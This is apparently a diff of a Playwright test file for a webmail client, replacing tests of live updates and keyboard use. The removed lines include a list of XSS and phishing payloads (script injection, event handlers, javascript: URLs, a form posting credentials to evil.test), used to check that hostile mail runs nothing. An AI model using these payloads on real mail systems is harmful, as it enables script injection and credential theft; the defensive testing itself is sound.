@@ -1,110 +1,44 @@
-"""The webmail in a real browser: live updates, keyboard use, isolation of mail content."""
+"""The webmail in a real browser: live updates, reading, keyboard use, gaps, a phone."""
 
-import base64
 import copy
-from collections.abc import AsyncIterator
 
 import pytest
-from playwright.async_api import Browser, Page, Route, async_playwright, expect
+from playwright.async_api import expect
 
 from mail.ids import new_id
 from schemas.events.mailbox_commands import ChangeMessages
 from schemas.mailbox import SEEN
 from stores.memory import MemoryLiveEvents
-from tests.support.browser import ARGUMENTS, CHROMIUM
-from tests.support.edge_world import PASSWORDS, PLAIN, Mailboxes, World
+from tests.support.edge_world import PLAIN, Mailboxes
+from tests.support.webmail import opened, sign_in
 
-pytestmark = pytest.mark.browser
-
-HOSTILE = """
-<p>Good day</p>
-<script>window.top.pwned('script')</script>
-<script src="/web/app.js"></script>
-<script src="http://evil.test/x.js"></script>
-<img src=x onerror="parent.pwned('onerror')">
-<img src="http://evil.test/pixel.png"><img srcset="http://evil.test/2.png 2x">
-<svg onload="parent.pwned('svg')"><script>parent.pwned('svg script')</script></svg>
-<a href="javascript:parent.pwned('link')" id="bad">press me</a>
-<iframe src="javascript:parent.pwned('frame')"></iframe>
-<iframe srcdoc="<script>parent.parent.pwned('srcdoc')</script>"></iframe>
-<form action="http://evil.test/steal"><input name="p"><button>Sign in</button></form>
-<meta http-equiv="refresh" content="0;url=http://evil.test/away">
-<base href="http://evil.test/"><link rel="stylesheet" href="http://evil.test/a.css">
-<style>body{background:url(http://evil.test/b.png)} @import url(http://evil.test/c.css);</style>
-<p style="background:url(http://evil.test/d.png)">styled</p>
-<object data="http://evil.test/o"></object><embed src="http://evil.test/e">
-<math><mtext><table><mglyph><style><img src=x onerror="parent.pwned('mxss')"></style></table></math>
-<details open ontoggle="parent.pwned('toggle')"><summary>x</summary></details>
-"""
-MAIL = (
-    b"From: =?utf-8?q?Mallory_=3Cscript=3Epwned('name')=3C/script=3E?= <m@evil.test>\r\n"
-    b"Subject: <img src=x onerror=pwned('subject')>\r\nMIME-Version: 1.0\r\n"
-    b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
-)
-
-
-@pytest.fixture
-async def browser() -> AsyncIterator[Browser]:
-    assert CHROMIUM, "install chromium"
-    async with async_playwright() as playwright:
-        launched = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
-        yield launched
-        await launched.close()
-
-
-class Watched:
-    """A browser page, and a record of what must not happen in it."""
-
-    def __init__(self, page: Page, world: World) -> None:
-        self.page = page
-        self._own = world.url
-        self.bad: list[str] = []
-        page.on("dialog", lambda dialog: self.bad.append(f"dialog {dialog.message}"))
-        page.on("pageerror", lambda error: self.bad.append(f"error {error}"))
-        page.on("popup", lambda popup: self.bad.append(f"popup {popup.url}"))
-        page.on("request", lambda request: self._asked(request.url))
-
-    def _asked(self, url: str) -> None:
-        if not url.startswith((self._own, "data:", "about:", self._own.replace("http", "ws"))):
-            self.bad.append(f"request {url}")
-
-
-async def opened(browser: Browser, world: World, **context: object) -> Watched:
-    """Log in as alice and wait for the push connection."""
-    page = await (await browser.new_context(**context)).new_page()
-    watched = Watched(page, world)
-    await page.expose_function("pwned", lambda what: watched.bad.append(f"ran {what}"))
-    await page.goto(world.url)
-    await page.get_by_label("Address").fill("alice@postriver.test")
-    await page.get_by_label("Password").fill(PASSWORDS["alice"])
-    await page.keyboard.press("Enter")
-    await expect(page.get_by_text("Live", exact=True)).to_be_visible()
-    return watched
+pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
 
 
 async def test_mail_appears_is_read_by_keyboard_and_is_gone_after_signing_out(browser, world):
     await world.deliver(PLAIN % b"Before", at_ms=1000)
     watched = await opened(browser, world)
-    page, rows = watched.page, watched.page.locator("#list button")
-    await expect(rows).to_have_count(1)
-    await expect(page.locator("#unread")).to_have_text("1 unread")
+    page = watched.page
+    await expect(watched.rows).to_have_count(1)
+    await expect(page.locator(".place", has_text="Inbox").locator(".badge")).to_have_text("1")
     row = await world.deliver(PLAIN % "반가워요".encode())
-    await expect(rows).to_have_count(2)
-    await expect(rows.first).to_contain_text("반가워요")
-    await expect(page.locator("#announce")).to_have_text("New message from Bob: 반가워요")
+    await expect(watched.rows).to_have_count(2)
+    await expect(watched.row("반가워요")).to_have_attribute("aria-rowindex", "1")
+    await expect(page.get_by_text("New message from Bob: 반가워요")).to_be_attached()
     await expect(page).to_have_title("(2) Inbox · Postriver")
-    await rows.last.focus()
-    await page.keyboard.press("ArrowUp")
+    await page.keyboard.press("k")
     await page.keyboard.press("Enter")
-    await expect(page.locator("article h2")).to_be_focused()
-    await expect(page.locator("article pre")).to_have_text("Hello")
-    await expect(page.locator("#unread")).to_have_text("1 unread")
+    await expect(watched.subject).to_have_text("반가워요")
+    await expect(watched.subject).to_be_focused()
+    await expect(page.locator(".plain")).to_have_text("Hello")
+    await expect(page).to_have_title("(1) Inbox · Postriver")
     kept = await world.store.message("alice", row.message_id)
     assert kept is not None
     assert kept.keywords == ("$seen",)
-    await page.keyboard.press("Escape")
-    await expect(rows.first).to_be_focused()
-    await page.get_by_role("button", name="Sign out").click()
+    await page.keyboard.press("u")
+    await expect(page.get_by_text("2 conversations")).to_be_visible()
+    await page.get_by_role("button", name="Account and display").click()
+    await page.get_by_role("menuitem", name="Sign out").click()
     await expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
     await expect(page.get_by_text("반가워요")).to_have_count(0)
     kept_cookies = [one["name"] for one in await page.context.cookies()]
@@ -112,24 +46,23 @@ async def test_mail_appears_is_read_by_keyboard_and_is_gone_after_signing_out(br
     assert watched.bad == []
 
 
-async def test_a_message_is_deleted_moved_and_brought_back_by_keyboard(browser, world) -> None:
-    await world.deliver(PLAIN % b"otter")
+async def test_a_conversation_shows_own_answers_and_grows_while_it_is_open(browser, world) -> None:
+    first = b"Message-ID: <1@x.test>\r\n" + PLAIN % b"Plan"
+    answer = b"Message-ID: <2@x.test>\r\nReferences: <1@x.test>\r\n" + (PLAIN % b"Re: Plan")
+    await world.deliver(first, keywords=("$seen",), at_ms=1000)
+    await world.deliver(answer, keywords=("$seen",), at_ms=2000, folder_id="sent")
     watched = await opened(browser, world)
     page = watched.page
-    await expect(page.locator("#room")).to_contain_text("used")
-    for label, told in (("Delete", "Moved to Trash."), ("Archive", "Moved to Archive.")):
-        await page.locator("#list button").first.press("Enter")
-        await expect(page.locator("#message h2")).to_be_focused()
-        if label == "Delete":
-            await page.get_by_role("button", name="Delete").press("Enter")
-        else:
-            await page.get_by_label("Move to folder").select_option(label)
-        await expect(page.locator("#done-text")).to_have_text(told)
-        await expect(page.locator("#list li")).to_have_count(0)
-        await expect(page.locator("#undo")).to_be_focused()
-        await page.keyboard.press("Enter")
-        await expect(page.locator("#list li")).to_have_count(1)
-        await expect(page.locator("#done")).to_be_hidden()
+    await watched.row("Plan").click()
+    await expect(page.locator("article")).to_have_count(2)
+    await expect(page.locator("article.open")).to_have_count(1)
+    await page.keyboard.press(";")
+    await expect(page.locator("article.open .plain")).to_have_count(2)
+    third = b"References: <1@x.test> <2@x.test>\r\n" + (PLAIN % b"Re: Plan")
+    await world.deliver(third)
+    await expect(page.locator("article.open")).to_have_count(3)
+    await page.reload()
+    await expect(page.locator("article")).to_have_count(3)
     assert watched.bad == []
 
 
@@ -137,16 +70,14 @@ async def test_the_page_says_when_it_is_cut_off_and_catches_up(browser, world) -
     watched = await opened(browser, world)
     page = watched.page
     kept, world.feed._sinks = world.feed._sinks, {}
-    missed = await world.deliver(PLAIN % b"missed")
+    await world.deliver(PLAIN % b"missed")
     for sinks in kept.values():
         assert len(sinks) == 1
     world.context.push_connections.end_all()
-    await expect(page.get_by_text("Not connected.")).to_be_visible()
-    await expect(page.locator("#list button")).to_have_count(1)
+    await expect(page.get_by_text("Not connected.", exact=True)).to_be_visible()
     await expect(page.get_by_text("Live", exact=True)).to_be_visible()
-    await expect(page.locator("#list")).to_contain_text("missed")
-    await expect(page.get_by_text("Not connected.")).to_be_hidden()
-    assert missed.head.subject == "missed"
+    await expect(watched.row("missed")).to_be_visible()
+    await expect(page.locator(".banner")).to_have_count(0)
     assert watched.bad == []
 
 
@@ -155,11 +86,11 @@ async def test_the_page_shows_what_a_restore_has_put_back(browser, world) -> Non
     row = await world.deliver(PLAIN % b"kept")
     backup = copy.deepcopy(world.store)
     watched, client = await opened(browser, world), await world.signed()
-    page = watched.page
+    star = watched.row("kept").locator(".star")
     await client.patch(f"/v1/messages/{row.message_id}", json={"flagged": True})
-    await expect(page.locator("#list .subject")).to_have_text("★ kept")
+    await expect(star).to_have_attribute("aria-pressed", "true")
     await world.deliver(PLAIN % b"lost")
-    await expect(page.locator("#list button")).to_have_count(2)
+    await expect(watched.rows).to_have_count(2)
     again = ChangeMessages(
         command_id=new_id(), user_id="alice", domain_id="d", at_ms=5,
         message_ids=(row.message_id,), add_keywords=(SEEN,),
@@ -167,48 +98,64 @@ async def test_the_page_shows_what_a_restore_has_put_back(browser, world) -> Non
     await Mailboxes(backup, MemoryLiveEvents(), offset=9).carry_out(again)
     vars(world.store).update(vars(backup))
     world.context.push_connections.end_all()
-    await expect(page.locator("#list button")).to_have_count(1)
-    await expect(page.locator("#list .subject")).to_have_text("kept")
-    await expect(page.locator("#unread")).to_be_hidden()
+    await expect(watched.rows).to_have_count(1)
+    await expect(star).to_have_attribute("aria-pressed", "false")
+    await expect(watched.page).to_have_title("Inbox · Postriver")
     assert watched.bad == []
 
 
-async def test_a_hostile_mail_runs_nothing_and_loads_nothing(browser, world: World) -> None:
-    await world.deliver(MAIL + base64.encodebytes(HOSTILE.encode()))
+async def test_an_ended_session_asks_for_the_password_over_the_page(browser, world) -> None:
+    await world.deliver(PLAIN % b"kept open")
     watched = await opened(browser, world)
     page = watched.page
-    await page.locator("#list button").click()
-    frame = page.frame_locator("iframe.body")
-    await expect(frame.get_by_text("Good day")).to_be_visible()
-    await expect(page.locator("article h2")).to_have_text("<img src=x onerror=pwned('subject')>")
-    await expect(frame.locator("body")).to_have_css("margin-left", "16px")
-    await page.wait_for_timeout(500)
+    await watched.row("kept open").click()
+    await expect(watched.subject).to_be_visible()
+    client = await world.signed()
+    await client.delete("/v1/sessions")
+    await expect(page.get_by_text("Your session has ended.")).to_be_visible()
+    await world.deliver(PLAIN % b"meanwhile")
+    await sign_in(page)
+    await expect(watched.subject).to_have_text("kept open")
+    await expect(watched.row("meanwhile")).to_be_visible()
     assert watched.bad == []
 
 
-async def test_without_the_sanitiser_frame_and_policy_would_still_hold(browser, world) -> None:
-    row = await world.deliver(MAIL + base64.encodebytes(b"<p>Hello</p>"))
-
-    async def unsanitised(route: Route) -> None:
-        answer = await route.fetch()
-        await route.fulfill(response=answer, json={**await answer.json(), "html": HOSTILE})
-
-    watched = await opened(browser, world)
-    page = watched.page
-    await page.route(f"**/v1/messages/{row.message_id}", unsanitised)
-    await page.locator("#list button").click()
-    await page.wait_for_timeout(500)
-    ran = [what for what in watched.bad if what.startswith(("ran", "dialog"))]
-    assert ran == []
-
-
-async def test_on_a_phone_one_thing_is_shown_at_a_time(browser, world: World) -> None:
+async def test_on_a_phone_one_thing_is_shown_at_a_time(browser, world) -> None:
     await world.deliver(PLAIN % b"small")
-    page = (await opened(browser, world, viewport={"width": 390, "height": 800})).page
-    await page.locator("#list button").click()
-    await expect(page.locator("article h2")).to_be_visible()
-    await expect(page.locator("#list")).to_be_hidden()
-    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    watched = await opened(browser, world, viewport={"width": 360, "height": 740})
+    page = watched.page
+    await watched.row("small").click()
+    await expect(watched.subject).to_be_visible()
+    await expect(watched.row("small")).to_be_hidden()
+    assert await page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
     await page.go_back()
-    await expect(page.locator("#list button")).to_be_visible()
-    await expect(page.locator("article")).to_be_hidden()
+    await expect(watched.row("small")).to_be_visible()
+    await expect(watched.subject).to_have_count(0)
+    await page.get_by_role("button", name="Folders", exact=True).click()
+    await page.get_by_role("link", name="Archive").click()
+    await expect(page.get_by_role("heading", name="Archive")).to_be_visible()
+    assert await page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
+    assert watched.bad == []
+
+
+async def test_language_theme_and_keys_of_a_korean_layout(browser, world) -> None:
+    await world.deliver(PLAIN % b"one", at_ms=1000)
+    await world.deliver(PLAIN % b"two", at_ms=2000)
+    watched = await opened(browser, world)
+    page = watched.page
+    await page.get_by_role("button", name="Account and display").click()
+    await page.get_by_role("menuitemcheckbox", name="한국어").click()
+    await expect(page.get_by_role("heading", name="받은편지함")).to_be_visible()
+    await page.get_by_role("button", name="계정과 화면").click()
+    await page.get_by_role("menuitemcheckbox", name="어둡게").click()
+    await expect(page.locator("html")).to_have_attribute("data-theme", "dark")
+    stored = (await world.store.settings("alice")).settings
+    assert (stored.language, stored.theme) == ("ko", "dark")
+    for key, code in (("ㅓ", "KeyJ"), ("ㅐ", "KeyO")):
+        await page.evaluate(
+            "([key, code]) => dispatchEvent(new KeyboardEvent('keydown', {key, code}))", [key, code]
+        )
+    await expect(watched.subject).to_have_text("one")
+    await page.reload()
+    await expect(page.get_by_role("heading", name="받은편지함")).to_be_visible()
+    assert watched.bad == []
